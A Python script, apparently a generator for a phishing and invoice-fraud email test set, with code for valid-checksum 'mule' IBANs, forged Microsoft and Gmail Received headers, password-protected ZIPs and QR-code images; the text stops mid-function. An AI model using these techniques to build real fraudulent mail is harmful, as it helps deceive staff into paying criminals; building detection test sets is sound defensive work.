#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""Deterministic generator for the Example Group inbound-mail evaluation set.

Run from /tmp/audit25:  python3 gen/build.py
Writes attack/NN-LL.eml, business/NN-LL.eml, MANIFEST.md, staff.txt.
Only the Python 3 standard library is used; all randomness is seeded.
"""
import base64, datetime as _dt, email.utils, hashlib, html as _html, io, os, quopri
import random, re, struct, unicodedata, zipfile, zlib

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
RNG = random.Random(20260305)
MX = 'mx01.example.com'
INT = 'mail-int01.example.com'

# --------------------------------------------------------------------------- bank ids
def iban(cc, bban):
    bban = bban.replace(' ', '').upper()
    n = int(''.join(str(int(c, 36)) for c in bban + cc + '00'))
    return '%s%02d%s' % (cc, 98 - n % 97, bban)

def iban_ok(i):
    i = i.replace(' ', '')
    return int(''.join(str(int(c, 36)) for c in i[4:] + i[:4])) % 97 == 1

def fi(i):
    """print format of an IBAN"""
    return ' '.join(i[k:k + 4] for k in range(0, len(i), 4))

def es_bban(bank, branch, acct):
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]
    def dc(s):
        d = 11 - sum(int(c) * w[k] for k, c in enumerate(s)) % 11
        return {10: 1, 11: 0}.get(d, d)
    return '%s%s%d%d%s' % (bank, branch, dc('00' + bank + branch), dc(acct), acct)

_IT_ODD = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]
def it_bban(abi, cab, conto):
    s = abi + cab + conto.zfill(12)
    tot = 0
    for k, ch in enumerate(s):
        v = int(ch) if ch.isdigit() else ord(ch) - 65
        tot += _IT_ODD[v] if k % 2 == 0 else v
    return chr(65 + tot % 26) + s

def pl_bban(bank7, acct16):
    w = [3, 9, 7, 1, 3, 9, 7]
    c = (10 - sum(int(a) * b for a, b in zip(bank7, w)) % 10) % 10
    return bank7 + str(c) + acct16

def ru_account(bik, acc):
    """Russian settlement account with a correct control key (digit 9)."""
    acc = acc[:8] + '0' + acc[9:]
    s = bik[-3:] + acc
    w = [7, 1, 3] * 8
    tot = sum((int(d) * w[k]) % 10 for k, d in enumerate(s))
    key = ((tot % 10) * 3) % 10
    return acc[:8] + str(key) + acc[9:]

# Accounts used in the messages (all check digits computed here)
IBAN = {
    # genuine
    'lief_old': iban('DE', '48060036' + '0012487300'),
    'lief_new': iban('DE', '47860125' + '0012487300'),
    'ferretti': iban('IT', it_bban('05034', '12800', '000000031874')),
    'brambilla_new': iban('IT', it_bban('03069', '33240', '100000009184')),
    'partner_pl': iban('PL', pl_bban('1140200', '0040020208231914')),
    'ilektro': iban('GR', '0172' + '218' + '0005218014337921'),
    'neumatica': iban('ES', es_bban('2100', '2934', '0200187421')),
    'northfield': iban('GB', 'BARC' + '200415' + '63018842'),
    'example_de': iban('DE', '30050000' + '0004480120'),
    'example_gr': iban('GR', '0110' + '218' + '0000021847003311'),
    # fraudulent (valid, too)
    'mule_n26': iban('DE', '10011001' + '2734918506'),
    'mule_paysera': iban('LT', '35000' + '10003318742'),
    'mule_c24': iban('DE', '50024024' + '6021887314'),
    'mule_it': iban('IT', it_bban('03268', '22300', '052871460771')),
    'mule_pl': iban('PL', pl_bban('1090101', '0000000153947261')),
    'mule_revolut': iban('LT', '32500' + '48317750264'),
    'mule_gr': iban('GR', '0140' + '102' + '0001020188440027'),
    'mule_es': iban('ES', es_bban('1465', '0100', '1920481736')),
    'mule_gb': iban('GB', 'CLRB' + '041307' + '00921458'),
}
for _k, _v in IBAN.items():
    assert iban_ok(_v), _k

RU = {
    'tl_bik': '044030790', 'tl_acc': ru_account('044030790', '40702810755000012874'),
    'tl_ks': '30101810900000000790',
    'mule_bik': '044525974', 'mule_acc': ru_account('044525974', '40702810210001938471'),
    'mule_ks': '30101810145250000974',
}

# --------------------------------------------------------------------------- staff
STAFF = [
    # key, display name, address, role, site
    ('brenner', 'Dr. Matthias Brenner', 'm.brenner@example.com', 'CEO (Vorstandsvorsitzender)', 'HQ Gütersloh, DE'),
    ('hoffmann', 'Katrin Hoffmann', 'k.hoffmann@example.com', 'CFO', 'HQ Gütersloh, DE'),
    ('albrecht', 'Nina Albrecht', 'n.albrecht@example.com', 'Assistentin des Vorstands', 'HQ Gütersloh, DE'),
    ('krueger', 'Sabine Krüger', 's.krueger@example.com', 'Kreditorenbuchhaltung (accounts payable DE)', 'HQ Gütersloh, DE'),
    ('weiss', 'Jürgen Weiß', 'j.weiss@example.com', 'Entgeltabrechnung (payroll DE)', 'HQ Gütersloh, DE'),
    ('schroeder', 'Anja Schröder', 'a.schroeder@example.com', 'Leitung Personal (HR)', 'HQ Gütersloh, DE'),
    ('lang', 'Tobias Lang', 't.lang@example.com', 'IT-Administration / M365 admin', 'HQ Gütersloh, DE'),
    ('vogel', 'Markus Vogel', 'm.vogel@example.com', 'Einkauf (purchasing)', 'HQ Gütersloh, DE'),
    ('lindner', 'Dr. Eva Lindner', 'e.lindner@example.com', 'Legal & Export Control', 'HQ Gütersloh, DE'),
    ('oezdemir', 'Stefan Özdemir', 's.oezdemir@example.com', 'Vertrieb DACH / Messen', 'HQ Gütersloh, DE'),
    ('baumann', 'Heiko Baumann', 'h.baumann@example.com', 'Servicetechniker (field service)', 'HQ Gütersloh, DE'),
    ('ferraro', 'Giulia Ferraro', 'g.ferraro@examplegroup.eu', 'Contabilità fornitori (AP Italy)', 'Parma, IT'),
    ('ricci', 'Alessandro Ricci', 'a.ricci@examplegroup.eu', 'Country Manager Italia', 'Parma, IT'),
    ('esposito', 'Marco Esposito', 'm.esposito@examplegroup.eu', 'Tecnico assistenza (service)', 'Parma, IT'),
    ('wojcik', 'Agnieszka Wójcik', 'a.wojcik@examplegroup.eu', 'Księgowość (AP Poland)', 'Wrocław plant, PL'),
    ('dabrowski', 'Łukasz Dąbrowski', 'l.dabrowski@examplegroup.eu', 'Kierownik zakupów i logistyki (purchasing/logistics)', 'Wrocław plant, PL'),
    ('szymanska', 'Małgorzata Szymańska', 'm.szymanska@examplegroup.eu', 'Kadry i płace (HR/payroll PL)', 'Wrocław plant, PL'),
    ('papadopoulos', 'Γιώργος Παπαδόπουλος', 'g.papadopoulos@examplegroup.eu', 'Λογιστήριο (AP Greece)', 'Thessaloniki, GR'),
    ('konstantinou', 'Ελένη Κωνσταντίνου', 'e.konstantinou@examplegroup.eu', 'Διευθύντρια υποκαταστήματος (branch manager)', 'Thessaloniki, GR'),
    ('fernandez', 'Lucía Fernández Ruiz', 'l.fernandez@examplegroup.eu', 'Contabilidad / proveedores (AP Spain)', 'Valencia, ES'),
    ('morales', 'Javier Morales Gil', 'j.morales@examplegroup.eu', 'Servicio técnico y ventas', 'Valencia, ES'),
    ('bennett', 'Oliver Bennett', 'o.bennett@examplegroup.eu', 'Managing Director UK', 'Milton Keynes, UK'),
    ('hughes', 'Charlotte Hughes', 'c.hughes@examplegroup.eu', 'Accounts (AP/AR UK)', 'Milton Keynes, UK'),
    ('sokolov', 'Дмитрий Соколов', 'd.sokolov@examplegroup.eu', 'Генеральный директор ООО «Экзампл Груп Рус»', 'Moscow, RU'),
    ('morozova', 'Ольга Морозова', 'o.morozova@examplegroup.eu', 'Главный бухгалтер (chief accountant RU)', 'Moscow, RU'),
    ('volkov', 'Андрей Волков', 'a.volkov@examplegroup.eu', 'Сервисный инженер (service engineer)', 'Moscow, RU'),
]
S = {k: (n, a) for k, n, a, _, _ in STAFF}
RECHNUNG = ('Rechnungseingang Example Group', 'rechnungseingang@example.com')

# --------------------------------------------------------------------------- charsets / headers
_FALLBACK = {'«': '"', '»': '"', '„': '"', '“': '"', '”': '"', '‘': "'", '’': "'", '‚': "'",
             '–': '-', '—': '-', '…': '...', '№': 'N', '€': 'EUR', '\u00a0': ' ', '•': '*', '→': '->'}

def enc(text, cs):
    out = []
    for ch in text:
        try:
            out.append(ch.encode(cs))
        except UnicodeEncodeError:
            out.append(_FALLBACK.get(ch, '?').encode(cs))
    return b''.join(out)

def is_ascii(s):
    return all(32 <= ord(c) < 127 for c in s)

def _qword(b):
    return ''.join(chr(c) if (48 <= c <= 57 or 65 <= c <= 90 or 97 <= c <= 122 or c in b'!*+-/')
                   else ('_' if c == 32 else '=%02X' % c) for c in b)

def ew(s, cs='utf-8', mode='B'):
    """RFC 2047 encoded words (folded)."""
    if is_ascii(s):
        return s
    words, cur = [], b''
    for ch in s:
        b = enc(ch, cs)
        trial = cur + b
        ln = len(base64.b64encode(trial)) if mode == 'B' else len(_qword(trial))
        if cur and ln > 48:
            words.append(cur)
            cur = b
        else:
            cur = trial
    if cur:
        words.append(cur)
    if mode == 'B':
        parts = ['=?%s?B?%s?=' % (cs, base64.b64encode(w).decode()) for w in words]
    else:
        parts = ['=?%s?Q?%s?=' % (cs, _qword(w)) for w in words]
    return '\n '.join(parts)

def addr(who, cs='utf-8', mode='B'):
    if isinstance(who, str):
        who = S[who] if who in S else ('', who)
    name, a = who
    if not name:
        return a
    if is_ascii(name):
        if re.search(r'[()<>@,;:\\".\[\]]', name):
            name = '"%s"' % name.replace('\\', '\\\\').replace('"', '\\"')
        return '%s <%s>' % (name, a)
    return '%s <%s>' % (ew(name, cs, mode), a)

def D(s):
    return _dt.datetime.strptime(s, '%Y-%m-%d %H:%M:%S %z')

def rfcdate(d):
    return email.utils.format_datetime(d)

def hid(*parts, n=12, alpha='0123456789ABCDEF'):
    h = hashlib.sha256('|'.join(map(str, parts)).encode()).digest()
    v = int.from_bytes(h, 'big')
    out = ''
    for _ in range(n):
        v, r = divmod(v, len(alpha))
        out += alpha[r]
    return out

B62 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'

# --------------------------------------------------------------------------- routes
def hop(helo, ip, by, with_='ESMTPS', rdns=None):
    return ('h', helo, rdns or helo, ip, by, with_)

def raw(s):
    return ('r', s)

def R_host(host, ip, client=None, helo=None):
    """sender's own MTA; client=(helo, rdns, ip) of the submitting machine"""
    hops = []
    if client:
        hops.append(hop(client[0], client[2], host, 'ESMTPSA', client[1]))
    hops.append(hop(helo or host, ip, MX, 'ESMTPS', host))
    return hops

def R_int(ws, ws_ip):
    return [hop(ws + '.corp.example.com', ws_ip, INT, 'ESMTPSA'),
            hop(INT, '10.20.0.25', MX, 'ESMTPS')]

def R_m365(mbx, region, out_helo, out_host, out_ip):
    v6a = '2603:10a6:%x:%x::%x' % (RNG.randrange(0x10, 0xfff), RNG.randrange(0x100, 0x4ff), RNG.randrange(1, 0x3f))
    return [raw('from %s.%s.prod.outlook.com\n\t([fe80::%x:%x:%x:%x]) by %s.%s.prod.outlook.com\n\t([fe80::%x:%x:%x:%x%%4]) with mapi id 15.20.8989.13; {date}' % (
                mbx, region, RNG.randrange(0x1000, 0xffff), RNG.randrange(0x1000, 0xffff), RNG.randrange(0x1000, 0xffff), RNG.randrange(0x1000, 0xffff),
                mbx, region, RNG.randrange(0x1000, 0xffff), RNG.randrange(0x1000, 0xffff), RNG.randrange(0x1000, 0xffff), RNG.randrange(0x1000, 0xffff))),
            raw('from %s.%s.prod.outlook.com (%s) by\n\t%s.outbound.protection.outlook.com with Microsoft SMTP Server\n\t(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8989.13; {date}' % (
                mbx, region, v6a, out_helo)),
            hop(out_helo + '.outbound.protection.outlook.com', out_ip, MX, 'ESMTPS', out_host)]

def R_gmail(client_ip, out_ip='209.85.221.48', out_host='mail-wr1-f48.google.com'):
    return [raw('from [192.168.1.%d] (%s) by smtp.gmail.com with ESMTPSA id\n\tffacd0b85a97d-39c0b7ae4%02xsm%d.%d.2026 (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256);\n\t{date}' % (
                RNG.randrange(2, 200), client_ip, RNG.randrange(256), RNG.randrange(1000000, 9999999), RNG.randrange(10, 99))),
            hop(out_host, out_ip, MX, 'ESMTPS')]

def R_google_svc(out_ip='209.85.220.69', out_host='mail-sor-f69.google.com'):
    return [raw('by mail-sor-f69.google.com with SMTP id 2adb3069b0e04-54c0f1c8%02xasor%d\n\tfor <{rcpt}>; {date}' % (RNG.randrange(256), RNG.randrange(1000000, 9999999))),
            hop(out_host, out_ip, MX, 'ESMTPS')]

def received_chain(route, date, rcpt, key):
    lines = []
    t = date + _dt.timedelta(seconds=1)
    for i, h in enumerate(route):
        t = t + _dt.timedelta(seconds=RNG.randrange(1, 4))
        qid = hid(key, i, n=14, alpha=B62)
        if h[0] == 'r':
            lines.append(h[1].replace('{date}', rfcdate(t)).replace('{rcpt}', rcpt))
        else:
            _, helo, rdns, ip, by, with_ = h
            if by == MX:
                lines.append('from %s (%s [%s])\n\tby %s with %s id %s\n\tfor <%s>; %s' % (helo, rdns, ip, by, with_, qid, rcpt, rfcdate(t)))
            else:
                lines.append('from %s (%s [%s])\n\tby %s with %s id %s;\n\t%s' % (helo, rdns, ip, by, with_, qid, rfcdate(t)))
    return ['Received: ' + l for l in reversed(lines)]

# --------------------------------------------------------------------------- MIME
class Part:
    def __init__(self, headers, body=b'', parts=None, boundary=None):
        self.headers, self.body, self.parts, self.boundary = headers, body, parts, boundary

    def render(self):
        out = [('%s: %s' % (k, v)).encode('ascii') for k, v in self.headers]
        head = b'\n'.join(out) + b'\n\n'
        if self.parts is None:
            return head + self.body
        b = self.boundary.encode()
        chunks = [head, b'This is a multi-part message in MIME format.\n']
        for p in self.parts:
            chunks.append(b'\n--' + b + b'\n' + p.render().rstrip(b'\n') + b'\n')
        chunks.append(b'\n--' + b + b'--\n')
        return b''.join(chunks)

def b64lines(data):
    s = base64.b64encode(data).decode()
    return ('\n'.join(s[i:i + 76] for i in range(0, len(s), 76)) + '\n').encode()

def body_enc(raw_bytes, cte):
    if cte == 'qp':
        return quopri.encodestring(raw_bytes), 'quoted-printable'
    if cte == 'b64':
        return b64lines(raw_bytes), 'base64'
    return raw_bytes, cte

def text_part(text, subtype='plain', cs='utf-8', cte='qp', extra_ct=''):
    if not text.endswith('\n'):
        text += '\n'
    data, cten = body_enc(enc(text, cs), cte)
    return Part([('Content-Type', 'text/%s; charset="%s"%s' % (subtype, cs, extra_ct)),
                 ('Content-Transfer-Encoding', cten)], data)

def new_boundary():
    return '----=_Part_%d_%d.%d' % (RNG.randrange(10 ** 5, 10 ** 6), RNG.randrange(10 ** 8, 10 ** 9), RNG.randrange(10 ** 12, 10 ** 13))

def multi(sub, parts, extra=''):
    b = new_boundary()
    return Part([('Content-Type', 'multipart/%s;%s\n\tboundary="%s"' % (sub, extra, b))], parts=parts, boundary=b)

def _fnparams(fn, key):
    if is_ascii(fn):
        return '%s="%s"' % (key, fn)
    if key == 'name':
        return 'name="%s"' % ew(fn).replace('\n ', '')
    return "filename*=UTF-8''" + ''.join(chr(b) if b < 128 and (chr(b).isalnum() or chr(b) in '.-_') else '%%%02X' % b for b in fn.encode('utf-8'))

def attachment(data, ctype, fn, inline=False, cid=None):
    hd = [('Content-Type', '%s;\n\t%s' % (ctype, _fnparams(fn, 'name'))),
          ('Content-Disposition', '%s;\n\t%s' % ('inline' if inline else 'attachment', _fnparams(fn, 'filename'))),
          ('Content-Transfer-Encoding', 'base64')]
    if cid:
        hd.append(('Content-ID', '<%s>' % cid))
    return Part(hd, b64lines(data))

def autohtml(text, cs='utf-8', font='Calibri,Arial,sans-serif'):
    out = []
    for p in text.strip('\n').split('\n\n'):
        e = _html.escape(p, quote=False)
        e = re.sub(r'(https?://[^\s<]+)', r'<a href="\1">\1</a>', e)
        if p.startswith('>') or p.startswith('-----') or p.startswith('From:') or p.startswith('Von:'):
            out.append('<blockquote style="margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex;color:#555">%s</blockquote>' % e.replace('\n', '<br>\n'))
        else:
            out.append('<p style="margin:0 0 10px 0">%s</p>' % e.replace('\n', '<br>\n'))
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=%s">\n</head>\n'
            '<body style="font-family:%s;font-size:11pt;color:#1f1f1f">\n%s\n</body>\n</html>\n' % (cs, font, '\n'.join(out)))

# --------------------------------------------------------------------------- attachments
def _pdfstr(s):
    s = s.replace('ł', 'l').replace('Ł', 'L').replace('ś', 's').replace('ą', 'a').replace('ę', 'e')
    out = []
    for ch in s:
        try:
            ch.encode('cp1252')
            out.append(ch)
        except UnicodeEncodeError:
            d = unicodedata.normalize('NFKD', ch)
            d = ''.join(c for c in d if not unicodedata.combining(c))
            out.append(d if d and all(ord(c) < 128 for c in d) else '?')
    b = ''.join(out).encode('cp1252')
    return b.replace(b'\\', b'\\\\').replace(b'(', b'\\(').replace(b')', b'\\)')

def pdf(lines, title='Document', author='', link=None, created='20260302101500'):
    """Minimal valid one-page PDF. lines: list of str (or (size, str)). link=(line_index, url)"""
    body = [b'BT /F1 10 Tf 50 800 Td']
    y = 800
    for ln in lines:
        size = 10
        if isinstance(ln, tuple):
            size, ln = ln
        body.append(b'/F1 %d Tf (' % size + _pdfstr(ln) + b') Tj 0 -%d Td' % (size + 5))
        y -= size + 5
    body.append(b'ET')
    content = b'\n'.join(body)
    objs = [b'<< /Type /Catalog /Pages 2 0 R >>',
            b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
            None,
            b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
            b'<< /Length %d >>\nstream\n' % len(content) + content + b'\nendstream',
            b'<< /Producer (' + _pdfstr('Microsoft\xae Word f\xfcr Microsoft 365') + b') /Title (' + _pdfstr(title) +
            b') /Author (' + _pdfstr(author) + b') /CreationDate (D:' + created.encode() + b"+01'00') >>"]
    page = b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R'
    if link:
        idx, url = link
        yy = 800 - sum((l[0] if isinstance(l, tuple) else 10) + 5 for l in lines[:idx])
        objs.append(b'<< /Type /Annot /Subtype /Link /Rect [45 %d 550 %d] /Border [0 0 0] /A << /S /URI /URI (%s) >> >>' % (yy - 4, yy + 12, url.encode()))
        page += b' /Annots [7 0 R]'
    objs[2] = page + b' >>'
    out = io.BytesIO()
    out.write(b'%PDF-1.4\n%\xe2\xe3\xcf\xd3\n')
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(out.tell())
        out.write(b'%d 0 obj\n' % i + o + b'\nendobj\n')
    x = out.tell()
    out.write(b'xref\n0 %d\n0000000000 65535 f \n' % (len(objs) + 1))
    for o in offs:
        out.write(b'%010d 00000 n \n' % o)
    out.write(b'trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n' % (len(objs) + 1, x))
    return out.getvalue()

ZDT = (2026, 3, 2, 10, 15, 0)

def zipbytes(files):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=ZDT)
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data)
    return bio.getvalue()

def _crct():
    t = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (0xEDB88320 ^ (c >> 1)) if c & 1 else c >> 1
        t.append(c)
    return t
CRCT = _crct()

def zip_encrypted(files, password):
    """ZIP with traditional PKWARE (ZipCrypto) encryption, deflated."""
    out = io.BytesIO()
    central = []
    y, mo, d, h, mi, s = ZDT
    dtime, ddate = (h << 11) | (mi << 5) | (s // 2), ((y - 1980) << 9) | (mo << 5) | d
    for name, data in files:
        crc = zlib.crc32(data) & 0xffffffff
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        cdata = co.compress(data) + co.flush()
        k = [0x12345678, 0x23456789, 0x34567890]
        def upd(c):
            k[0] = CRCT[(k[0] ^ c) & 0xff] ^ (k[0] >> 8)
            k[1] = ((k[1] + (k[0] & 0xff)) * 134775813 + 1) & 0xffffffff
            k[2] = CRCT[(k[2] ^ (k[1] >> 24)) & 0xff] ^ (k[2] >> 8)
        for ch in password.encode():
            upd(ch)
        hdr = bytes(RNG.randrange(256) for _ in range(11)) + bytes([crc >> 24])
        e = bytearray()
        for p in hdr + cdata:
            t = (k[2] | 2) & 0xffff
            e.append(p ^ (((t * (t ^ 1)) >> 8) & 0xff))
            upd(p)
        nb = name.encode('utf-8')
        flags = 0x1 | (0x800 if not is_ascii(name) else 0)
        off = out.tell()
        out.write(struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, flags, 8, dtime, ddate, crc, len(e), len(data), len(nb), 0) + nb + bytes(e))
        central.append(struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, flags, 8, dtime, ddate, crc, len(e), len(data), len(nb), 0, 0, 0, 0, 0x20, off) + nb)
    cdo = out.tell()
    cd = b''.join(central)
    out.write(cd)
    out.write(struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, len(files), len(files), len(cd), cdo, 0))
    return out.getvalue()

def _x(s):
    return _html.escape(s, quote=False)

def docx(paras):
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           + ''.join('<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % _x(p) for p in paras) + '</w:body></w:document>')
    return zipbytes([('[Content_Types].xml', ct), ('_rels/.rels', rels), ('word/document.xml', doc)])

def xlsx(rows):
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Tabelle1" sheetId="1" r:id="rId1"/></sheets></workbook>')
    wbr = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
           '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
    def col(i):
        return chr(65 + i)
    cells = []
    for r, row in enumerate(rows, 1):
        cs = []
        for c, v in enumerate(row):
            if isinstance(v, (int, float)):
                cs.append('<c r="%s%d"><v>%s</v></c>' % (col(c), r, v))
            else:
                cs.append('<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>' % (col(c), r, _x(str(v))))
        cells.append('<row r="%d">%s</row>' % (r, ''.join(cs)))
    sh = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
          + ''.join(cells) + '</sheetData></worksheet>')
    return zipbytes([('[Content_Types].xml', ct), ('_rels/.rels', rels), ('xl/workbook.xml', wb),
                     ('xl/_rels/workbook.xml.rels', wbr), ('xl/worksheets/sheet1.xml', sh)])

def ics(uid, summary, start, end, organizer, attendees, description, location='', method='REQUEST'):
    def t(d):
        return d.astimezone(_dt.timezone.utc).strftime('%Y%m%dT%H%M%SZ')
    def fold(line):
        b = line.encode('utf-8')
        out, cur = [], b''
        for ch in line:
            cb = ch.encode('utf-8')
            if len(cur) + len(cb) > 73:
                out.append(cur)
                cur = b' '
            cur += cb
        out.append(cur)
        return b'\r\n'.join(out).decode('utf-8')
    desc = description.replace('\\', '\\\\').replace(';', '\\;').replace(',', '\\,').replace('\n', '\\n')
    L = ['BEGIN:VCALENDAR', 'PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN', 'VERSION:2.0', 'METHOD:' + method,
         'BEGIN:VEVENT', 'UID:' + uid, 'DTSTAMP:' + t(start - _dt.timedelta(days=2)), 'DTSTART:' + t(start), 'DTEND:' + t(end),
         'SUMMARY:' + summary.replace(',', '\\,'), 'LOCATION:' + location.replace(',', '\\,'),
         'ORGANIZER;CN="%s":mailto:%s' % organizer]
    for n, a in attendees:
        L.append('ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN="%s":mailto:%s' % (n, a))
    L += ['DESCRIPTION:' + desc, 'SEQUENCE:0', 'STATUS:CONFIRMED', 'TRANSP:OPAQUE',
          'BEGIN:VALARM', 'ACTION:DISPLAY', 'DESCRIPTION:Reminder', 'TRIGGER:-PT15M', 'END:VALARM', 'END:VEVENT', 'END:VCALENDAR']
    return ('\r\n'.join(fold(l) for l in L) + '\r\n').encode('utf-8')

# --------------------------------------------------------------------------- QR code (version 4, ECC L, byte mode, mask 0)
def _gfmul(x, y):
    z = 0
    for i in reversed(range(8)):
        z = (z << 1) ^ ((z >> 7) * 0x11D)
        z ^= ((y >> i) & 1) * x
    return z

def _rsdiv(deg):
    r = [0] * (deg - 1) + [1]
    root = 1
    for _ in range(deg):
        for j in range(deg):
            r[j] = _gfmul(r[j], root)
            if j + 1 < deg:
                r[j] ^= r[j + 1]
        root = _gfmul(root, 2)
    return r

def _rsrem(data, div):
    r = [0] * len(div)
    for b in data:
        f = b ^ r.pop(0)
        r.append(0)
        for i, c in enumerate(div):
            r[i] ^= _gfmul(c, f)
    return r

def qr_matrix(text):
    data = text.encode('utf-8')
    assert len(data) <= 78
    size, ndata, necc = 33, 80, 20
    bits = [0, 1, 0, 0] + [(len(data) >> i) & 1 for i in range(7, -1, -1)]
    for b in data:
        bits += [(b >> i) & 1 for i in range(7, -1, -1)]
    bits += [0] * min(4, ndata * 8 - len(bits))
    bits += [0] * (-len(bits) % 8)
    cw = [int(''.join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)]
    pad = 0xEC
    while len(cw) < ndata:
        cw.append(pad)
        pad ^= 0xEC ^ 0x11
    cw += _rsrem(cw, _rsdiv(necc))
    M = [[False] * size for _ in range(size)]
    F = [[False] * size for _ in range(size)]
    def setf(x, y, v):
        M[y][x] = v
        F[y][x] = True
    for i in range(size):
        setf(6, i, i % 2 == 0)
        setf(i, 6, i % 2 == 0)
    for cx, cy in ((3, 3), (size - 4, 3), (3, size - 4)):
        for dy in range(-4, 5):
            for dx in range(-4, 5):
                x, y = cx + dx, cy + dy
                if 0 <= x < size and 0 <= y < size:
                    setf(x, y, max(abs(dx), abs(dy)) not in (2, 4))
    for dy in range(-2, 3):
        for dx in range(-2, 3):
            setf(26 + dx, 26 + dy, max(abs(dx), abs(dy)) != 1)
    def fmt(mask):
        d = (1 << 3) | mask
        rem = d
        for _ in range(10):
            rem = (rem << 1) ^ ((rem >> 9) * 0x537)
        b = ((d << 10) | rem) ^ 0x5412
        g = lambda i: ((b >> i) & 1) != 0
        for i in range(6):
            setf(8, i, g(i))
        setf(8, 7, g(6)); setf(8, 8, g(7)); setf(7, 8, g(8))
        for i in range(9, 15):
            setf(14 - i, 8, g(i))
        for i in range(8):
            setf(size - 1 - i, 8, g(i))
        for i in range(8, 15):
            setf(8, size - 15 + i, g(i))
        setf(8, size - 8, True)
    fmt(0)
    i = 0
    for right in range(size - 1, 0, -2):
        if right <= 6:
            right -= 1
        for vert in range(size):
            for j in range(2):
                x = right - j
                up = ((right + 1) & 2) == 0
                y = size - 1 - vert if up else vert
                if not F[y][x] and i < len(cw) * 8:
                    M[y][x] = ((cw[i >> 3] >> (7 - (i & 7))) & 1) != 0
                    i += 1
    for y in range(size):
        for x in range(size):
            if not F[y][x] and (x + y) % 2 == 0:
                M[y][x] = not M[y][x]
    fmt(0)
    return M

def qr_png(text, scale=5, border=4):
    M = qr_matrix(text)
    n = len(M)
    w = (n + 2 * border) * scale
    rows = []
    for py in range(w):
        y = py // scale - border
        row = bytearray([0])
        for px in range(w):
            x = px // scale - border
            dark = 0 <= x < n and 0 <= y < n and M[y][x]
            row.append(0 if dark else 255)
        rows.append(bytes(row))
    def chunk(t, d):
        return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, w, 8, 0, 0, 0, 0))
            + chunk(b'IDAT', zlib.compress(b''.join(rows), 9)) + chunk(b'IEND', b''))

def qr_table(text, px=4):
    M = qr_matrix(text)
    rows = []
